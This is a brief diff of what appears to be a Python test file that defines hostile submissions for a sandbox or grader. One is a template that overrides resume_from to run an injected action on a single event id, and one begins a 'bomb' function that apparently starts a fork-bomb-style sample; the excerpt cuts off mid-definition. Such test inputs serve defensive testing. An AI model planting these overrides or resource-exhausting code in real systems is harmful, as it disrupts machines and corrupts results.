@@ -20,7 +20,8 @@ LONGEST_S = 150.0
 
 # --- Submissions ------------------------------------------------------------------------------------------------------
 
-AGAIN = "_before = resume_from\ndef resume_from(last_event_id):\n    {deed}\n    return _before(last_event_id)\n"
+# In one question of the probe, so that one check has to do with it, and not all six.
+AGAIN = "def resume_from(last_event_id):\n    if last_event_id == '41':\n        {deed}\n    return 0\n"
 FORK = """
 import ctypes, os
 def bomb():
